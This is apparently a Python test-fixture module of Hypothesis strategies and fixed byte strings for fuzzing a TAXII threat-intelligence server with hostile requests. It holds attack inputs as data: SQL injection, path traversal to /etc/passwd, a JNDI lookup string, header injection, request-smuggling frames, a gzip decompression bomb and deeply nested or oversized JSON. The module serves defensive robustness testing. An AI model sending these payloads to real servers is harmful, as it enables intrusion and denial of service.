"""What nobody should send to a server: words, heads, bodies and frames for `test_hostile.py`."""

import gzip
import json
from urllib.parse import quote

from hypothesis import strategies as st

from standards.taxii.wire import envelope
from worlds.stix_made import StixMaker

THING = StixMaker(9).thing()

# What a request may be made of.
WORDS = st.sampled_from([
    "", "x", "0", "-1", "1", "99999999999999999999", "\u0661", "1e9", "NaN", "true", "null", "[]",
    "last", "first", "all", "last,first", ",", ",,,", "2024-01-01T00:00:00.000000Z",
    "2024-01-01T00:00:60Z", "9999-12-31T23:59:59.9999999999Z", "10000-01-01T00:00:00Z",
    "2024-01-01T00:00:00+25:00", "\x00", "a\x00b", "\r\nX-Bad: 1", "'", '"', "' OR 1=1 --",
    "%", "_",
    "../../etc/passwd", "..%2f", "${jndi:ldap://x.example}", "{{7*7}}", "<b>", "\ud7ff\U0001f54a",
    "A" * 3000, THING["id"], "indicator--", "--", "indicator--" + "0" * 36, "2.1", "2.0", "2.1,2.0",
    "eyJhIjoxfQ", "AAAA.BBBB", "\u202e", "\ufeff", "\u0130", "\u017f",
]) | st.text(max_size=30)  # fmt: skip
NAMES = st.sampled_from([
    "match[id]", "match[type]", "match[version]", "match[spec_version]", "added_after", "limit",
    "next", "match[]", "match", "match[id][x]", "MATCH[ID]", "Limit", "added_before", "", "[",
    "__proto__",
]) | st.text(max_size=12)  # fmt: skip
QUERIES = st.lists(st.tuples(NAMES, WORDS), max_size=5).map(
    lambda pairs: "&".join(f"{quote(name)}={quote(value)}" for name, value in pairs)
) | st.sampled_from(["%", "%zz", "&", "=", "a=%ff", "a=%c0%af", "%00", "?", "a=b#c", "limit", "+"])
TAILS = st.sampled_from([
    "", "objects/", "manifest/", f"objects/{THING['id']}/", f"objects/{THING['id']}/versions/",
    "objects", "manifest", "versions/", "objects//", "objects/x/y/z/", "objects/%00/",
    "objects/%ff/",
    "objects/%2e%2e/", "objects/../", "objects/indicator--/versions/", "./", "%",
    "objects/" + "a" * 3000,
]) | st.text(max_size=12).map(quote)  # fmt: skip
METHODS = st.sampled_from(
    ["GET"] * 8 + ["POST", "DELETE", "HEAD", "PUT", "PATCH", "OPTIONS", "TRACE", "PROPFIND", "get"]
)
HEADERS = st.sampled_from([
    "Accept: ", "Accept: */*", "Accept: ;q=", "Accept: a/b;q=9", "Accept: \xff", "X: " + "y" * 5000,
    "Content-Type: ", "Content-Type: text/html", "Content-Encoding: gzip", "Content-Encoding: br",
    "Authorization: Basic", "Authorization: Bearer \xfe", "Host: x.example", "Cookie: a=b; \xff",
    "Range: bytes=0-1", "If-None-Match: *", "If-Modified-Since: yesterday",
    "X-HTTP-Method-Override: DELETE",
    "Accept-Encoding: gzip, br, identity;q=0", "Accept-Charset: utf-7", "Origin: null",
    "Upgrade: h2c",
    "Connection: upgrade", "TE: trailers", "Via: x", "Accept-Language: \t", "X-Forwarded-For: 1'",
])  # fmt: skip
BODIES = st.sampled_from([
    b"", b"{}", b"[]", b"null", b"{", b"\xff", b"\x00", b'{"objects": [{}]}',
    b'{"objects": [[[]]]}',
    b'{"objects": "x"}', b'{"objects": [{"type": "x", "id": "x--y"}]}',
    b'{"objects": [{"id": null}]}',
    envelope([{**THING, "modified": 7}]), envelope([{**THING, "extensions": []}]),
    envelope([{**THING, "x": float("1e308")}]),
]) | st.binary(max_size=60)  # fmt: skip


JSON_BODIES: dict[str, bytes] = {
    "cut short": envelope([THING])[:-9],
    "in UTF-16": json.dumps({"objects": [THING]}).encode("utf-16"),
    "in UTF-32": json.dumps({"objects": [THING]}).encode("utf-32"),
    "in Latin-1": '{"objects": [{"name": "é"}]}'.encode("latin-1"),
    "deep list": b"[" * 100_000 + b"]" * 100_000,
    "deep object": b'{"a":' * 100_000 + b"1" + b"}" * 100_000,
    "deep list never closed": b"[" * 1_000_000,
    "deep inside an object": envelope([THING])[:-3]
    + b', "x_conform": '
    + b"[" * 100_000
    + b"]" * 100_000
    + b"}]}",
    "deep inside by steps": envelope([THING])[:-3]
    + b', "x_conform": '
    + b'{"a": [' * 3_000
    + b"]}" * 3_000
    + b"}]}",
    "NaN": envelope([StixMaker(13).thing()])[:-3] + b', "x_conform": NaN}]}',
    "infinity": envelope([StixMaker(14).thing()])[:-3] + b', "x_conform": -Infinity}]}',
    "number out of range": envelope([THING])[:-3] + b', "x_conform": 1e999}]}',
    "integer of 5,000 digits": envelope([THING])[:-3] + b', "x_conform": ' + b"9" * 5000 + b"}]}",
    "integer of 500,000 digits": envelope([THING])[:-3]
    + b', "x_conform": '
    + b"9" * 500_000
    + b"}]}",
    "fraction of 500,000 digits": envelope([THING])[:-3]
    + b', "x_conform": 0.'
    + b"1" * 500_000
    + b"}]}",
    "lone surrogate in a value": envelope([THING])[:-3] + b', "x_conform": "\\ud800"}]}',
    "lone surrogate in a name": envelope([THING])[:-3] + b', "x_\\udfff": 1}]}',
    "lone surrogate in the id": envelope([{**THING, "id": "indicator--\ud800"}]),
    "surrogate as bytes": b'{"objects": [{"id": "\xed\xa0\x80"}]}',
    "NUL in a value": envelope([{**THING, "name": "a\0b", "id": StixMaker(11).thing()["id"]}]),
    "NUL in the id": envelope([{**THING, "id": "indicator--\0"}]),
    "NUL in the type": envelope([{**THING, "type": "a\0b"}]),
    "a name twice": envelope([StixMaker(15).thing()])[:-3] + b', "x_conform": 1, "x_conform": 2}]}',
    "an id twice": b'{"objects": [{"type": "a", "type": "b", "id": "a--b", "id": "b--c"}]}',
    "objects twice": b'{"objects": [], "objects": [1]}',
    "100,000 names": json.dumps({str(n): n for n in range(100_000)}).encode(),
    "100,000 objects of nothing": b'{"objects": [' + b"{}," * 99_999 + b"{}]}",
    "100,000 numbers": b'{"objects": [' + b"1," * 99_999 + b"1]}",
    "a long id": envelope([{**THING, "id": "indicator--" + "a" * 100_000}]),
    "a long type": envelope([{**THING, "type": "a" * 100_000}]),
    "a long name of a property": envelope([{**THING, "x" * 100_000: 1}]),
    "a type of wrong kind": envelope([{**THING, "type": ["indicator"]}]),
    "an id of wrong kind": envelope([{**THING, "id": {"a": 1}}]),
    "modified of wrong kind": envelope([{**THING, "modified": {"a": 1}}]),
    "modified in year 0": envelope([{**THING, "modified": "0000-01-01T00:00:00.000Z"}]),
    "modified in a leap second": envelope([{**THING, "modified": "2016-12-31T23:59:60.000Z"}]),
    "modified far off": envelope([{**THING, "modified": "99999-01-01T00:00:00.000Z"}]),
    "modified with 60 digits": envelope(
        [{**THING, "modified": f"2024-01-01T00:00:00.{'1' * 60}Z"}]
    ),
    "modified with strange digits": envelope(
        [{**THING, "modified": "2024-01-0\u0661T00:00:00.000Z"}]
    ),
    "extensions of wrong kind": envelope([{**THING, "extensions": [1]}]),
    "spec_version of wrong kind": envelope([{**THING, "spec_version": 2.1}]),
    "spec_version to come": envelope([{**THING, "spec_version": "3.0"}]),
    "a pattern that explodes": envelope([{**THING, "pattern": "[" + "(" * 5000}]),
    "a bundle inside": envelope([{"type": "bundle", "id": "bundle--x", "objects": [THING]}]),
    "white space": b" " * 500_000,
    "zip of zeros": gzip.compress(b"0" * 50_000_000),
}


BAD_FRAMES: dict[str, tuple[bytes, tuple[str, ...]]] = {
    "two lengths": (b"{}", ("Content-Length: 2", "Content-Length: 3")),
    "length and chunks": (b"0\r\n\r\n", ("Content-Length: 5", "Transfer-Encoding: chunked")),
    "negative length": (b"{}", ("Content-Length: -1",)),
    "length of words": (b"{}", ("Content-Length: two",)),
    "length with a sign": (b"{}", ("Content-Length: +2",)),
    "length of 30 digits": (b"{}", ("Content-Length: " + "9" * 30,)),
    "chunk of words": (b"zz\r\n{}\r\n0\r\n\r\n", ("Transfer-Encoding: chunked",)),
    "negative chunk": (b"-1\r\n{}\r\n0\r\n\r\n", ("Transfer-Encoding: chunked",)),
    "huge chunk": (b"ffffffffffffffffff\r\n", ("Transfer-Encoding: chunked",)),
    "unknown coding": (b"{}", ("Transfer-Encoding: nonsense",)),
    "chunk extension": (
        b"2;" + b"a" * 20000 + b"\r\n{}\r\n0\r\n\r\n",
        ("Transfer-Encoding: chunked",),
    ),
    "no space": (b"", ("X:y", "Z :y")),
    "folded": (b"", ("X: y\r\n z",)),
    "bare": (b"", ("nonsense",)),
    "NUL": (b"", ("X: a\0b",)),
    "long header": (b"", ("X: " + "y" * 200_000,)),
    "many headers": (b"", tuple(f"X-{n}: y" for n in range(5000))),
}


NO_REQUESTS: list[bytes] = [
    b"\r\n\r\n",
    b"\0\0\0\0",
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
    b"GET\r\n\r\n",
    b"GET / HTTP/9.9\r\n\r\n",
    b"GET / HTTP/1.1\r\n\r\n",
    b"GET /taxii2/\r\n",
    b"GET /taxii2/ HTTP/1.0\r\n\r\n",
    b"GET http://thief.example/taxii2/ HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
    b"OPTIONS * HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
    b"CONNECT x:443 HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
    b"TRACE /taxii2/ HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
    b"GET /taxii2/" + b"a" * 200_000 + b" HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
    b"GET /taxii2/?" + b"a=b&" * 50_000 + b" HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
    b"GET /taxii2/\xff\xfe HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
    b"GET /taxii2/ /taxii2/ HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
    b"GET taxii2/ HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
    b"GET //taxii2// HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    b"A" * 300_000,
    b"GET /taxii2/ HTTP/1.1\r\nHost: a\r\nHost: b\r\nConnection: close\r\n\r\n",
]
